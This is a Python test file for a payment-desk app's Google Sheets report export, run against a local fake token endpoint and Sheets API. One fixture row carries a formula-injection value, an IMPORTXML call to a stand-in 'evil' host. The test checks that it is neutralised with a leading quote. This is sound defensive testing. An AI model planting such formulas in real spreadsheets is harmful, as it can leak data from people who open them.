"""The Google Sheets push against a local fake at the HTTP level: an OAuth token endpoint (the service account's
``token_uri``) and the Sheets v4 endpoints gspread calls, reached through ``PAYDESK_GOOGLE_SHEETS_API_URL``."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, unquote

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from google.auth import jwt
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from paydesk.reports.exports import table
from paydesk.reports.selectors import ROOT_CAUSE_COLUMNS, Period, Report
from paydesk.reports.sheets import SheetsError, push_report

SHEET = "1AbCdEfGhIjKlMnOp"
TOKEN = "ya29.fake-access-token"


@pytest.fixture(scope="module")
def rsa_key() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def _report() -> Report:
    rows = [
        {"resolution_code": "psp_delay", "psp": "stripe", "method": "card", "tickets": 3, "share_pct": 75.0},
        {
            "resolution_code": '=IMPORTXML("http://evil")',
            "psp": "(none)",
            "method": "(none)",
            "tickets": 1,
            "share_pct": None,
        },
    ]
    period = Period(datetime(2024, 5, 1, tzinfo=UTC), datetime(2024, 6, 1, tzinfo=UTC))
    return Report("root_causes", "Root causes", period, ROOT_CAUSE_COLUMNS, rows)


class FakeGoogle:
    """Just enough of the token endpoint and the Sheets API for gspread; records every request."""

    def __init__(self, *, existing_titles: tuple[str, ...] = ("Sheet1",)) -> None:
        self.requests: list[tuple[str, str, dict[str, Any], str]] = []
        self.sheets = [
            {
                "properties": {
                    "sheetId": index,
                    "title": title,
                    "index": index,
                    "gridProperties": {"rowCount": 1000, "columnCount": 26},
                }
            }
            for index, title in enumerate(existing_titles)
        ]

    def __call__(self, request: Request) -> Response:
        body = request.get_data(as_text=True)
        path = unquote(request.path)
        self.requests.append((request.method, path, dict(request.args), body))
        if path == "/token":
            return Response(
                json.dumps({"access_token": TOKEN, "expires_in": 3600, "token_type": "Bearer"}),
                content_type="application/json",
            )
        if request.headers.get("Authorization") != f"Bearer {TOKEN}":
            return Response(
                json.dumps({"error": {"code": 401, "message": "no token", "status": "UNAUTHENTICATED"}}),
                status=401,
                content_type="application/json",
            )
        if not path.startswith(f"/v4/spreadsheets/{SHEET}"):
            return Response(
                json.dumps(
                    {"error": {"code": 404, "message": "Requested entity was not found.", "status": "NOT_FOUND"}}
                ),
                status=404,
                content_type="application/json",
            )
        rest = path.removeprefix(f"/v4/spreadsheets/{SHEET}")
        if request.method == "GET" and rest == "":
            return self._json({"spreadsheetId": SHEET, "properties": {"title": "Desk reports"}, "sheets": self.sheets})
        if rest == ":batchUpdate":
            replies = []
            for item in json.loads(body)["requests"]:
                if "addSheet" in item:
                    props = {
                        **item["addSheet"]["properties"],
                        "sheetId": 100 + len(self.sheets),
                        "index": len(self.sheets),
                    }
                    self.sheets.append({"properties": props})
                    replies.append({"addSheet": {"properties": props}})
                else:
                    replies.append({})
            return self._json({"spreadsheetId": SHEET, "replies": replies})
        return self._json({"spreadsheetId": SHEET})

    @staticmethod
    def _json(data: dict[str, Any]) -> Response:
        return Response(json.dumps(data), content_type="application/json")


@pytest.fixture
def google(httpserver: HTTPServer, rsa_key: rsa.RSAPrivateKey, monkeypatch: pytest.MonkeyPatch) -> FakeGoogle:
    fake = FakeGoogle()
    httpserver.expect_request("").respond_with_handler(fake)
    pem = rsa_key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()
    info = {
        "type": "service_account",
        "project_id": "paydesk-test",
        "private_key_id": "k1",
        "private_key": pem,
        "client_email": "reports@paydesk-test.iam.gserviceaccount.com",
        "client_id": "1",
        "token_uri": httpserver.url_for("/token"),
    }
    monkeypatch.setenv("PAYDESK_GOOGLE_SERVICE_ACCOUNT_JSON", json.dumps(info))
    monkeypatch.delenv("PAYDESK_GOOGLE_SERVICE_ACCOUNT_FILE", raising=False)
    monkeypatch.setenv("PAYDESK_GOOGLE_SHEETS_API_URL", httpserver.url_for("/").rstrip("/"))
    return fake


def test_push_signs_in_with_the_service_account_and_writes_the_table(
    google: FakeGoogle, rsa_key: rsa.RSAPrivateKey
) -> None:
    pushed = push_report(_report(), spreadsheet_id=SHEET)
    assert (pushed.spreadsheet_id, pushed.worksheet, pushed.rows) == (SHEET, "Root causes", 2)

    method, path, _, body = google.requests[0]
    assert (method, path) == ("POST", "/token")
    form = parse_qs(body)
    assert form["grant_type"] == ["urn:ietf:params:oauth:grant-type:jwt-bearer"]
    public = rsa_key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    claims = jwt.decode(form["assertion"][0], certs=public, verify=True)
    assert claims["iss"] == "reports@paydesk-test.iam.gserviceaccount.com"
    assert "https://www.googleapis.com/auth/spreadsheets" in claims["scope"].split()

    calls = [(m, p) for m, p, _, _ in google.requests[1:]]
    assert calls[0] == ("GET", f"/v4/spreadsheets/{SHEET}")
    assert ("POST", f"/v4/spreadsheets/{SHEET}:batchUpdate") in calls
    writes = [(p, args, b) for m, p, args, b in google.requests if m == "PUT"]
    assert len(writes) == 1
    path, args, body = writes[0]
    assert path == f"/v4/spreadsheets/{SHEET}/values/'Root causes'!A1"
    assert args["valueInputOption"] == "RAW"
    assert json.loads(body)["values"] == [
        ["Resolution code", "PSP", "Method", "Tickets", "Share %"],
        ["psp_delay", "stripe", "card", 3, 75.0],
        ['\'=IMPORTXML("http://evil")', "(none)", "(none)", 1, ""],
    ]
    assert json.loads(body)["values"][2][0] == table(_report())[2][0]
    added = [json.loads(b)["requests"][0] for m, p, _, b in google.requests if p.endswith(":batchUpdate")]
    assert added[0]["addSheet"]["properties"]["title"] == "Root causes"
    clears = [p for m, p, _, _ in google.requests if p.endswith(":clear")]
    assert clears == [f"/v4/spreadsheets/{SHEET}/values/'Root causes':clear"]
    assert any(
        "updateSheetProperties" in r
        and r["updateSheetProperties"]["properties"]["gridProperties"] == {"frozenRowCount": 1}
        for r in added
    )


def test_second_push_replaces_the_same_worksheet(google: FakeGoogle) -> None:
    push_report(_report(), spreadsheet_id=SHEET)
    push_report(_report(), spreadsheet_id=SHEET)
    titles = [sheet["properties"]["title"] for sheet in google.sheets]
    assert titles == ["Sheet1", "Root causes"]
    assert sum(1 for m, _, _, _ in google.requests if m == "PUT") == 2


def test_unknown_spreadsheet_is_a_clear_error(google: FakeGoogle) -> None:
    with pytest.raises(SheetsError, match="Google spreadsheet nope not found"):
        push_report(_report(), spreadsheet_id="nope")
    assert not any(m == "PUT" for m, _, _, _ in google.requests)


def test_missing_configuration_is_refused_before_any_request(
    httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("PAYDESK_GOOGLE_SERVICE_ACCOUNT_JSON", raising=False)
    monkeypatch.delenv("PAYDESK_GOOGLE_SERVICE_ACCOUNT_FILE", raising=False)
    with pytest.raises(SheetsError, match="Google Sheets is not configured: set PAYDESK_GOOGLE_SERVICE_ACCOUNT_JSON"):
        push_report(_report(), spreadsheet_id=SHEET)
    assert httpserver.log == []


def test_key_file_that_is_not_a_key_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("PAYDESK_GOOGLE_SERVICE_ACCOUNT_JSON", raising=False)
    key = tmp_path / "key.json"
    key.write_text('{"client_email": "x@y"}', encoding="utf-8")
    monkeypatch.setenv("PAYDESK_GOOGLE_SERVICE_ACCOUNT_FILE", str(key))
    with pytest.raises(SheetsError, match=f"key in {key} lacks private_key, token_uri"):
        push_report(_report(), spreadsheet_id=SHEET)
    monkeypatch.setenv("PAYDESK_GOOGLE_SERVICE_ACCOUNT_FILE", str(tmp_path / "missing.json"))
    with pytest.raises(SheetsError, match=r"cannot read the Google service account file .*missing\.json"):
        push_report(_report(), spreadsheet_id=SHEET)
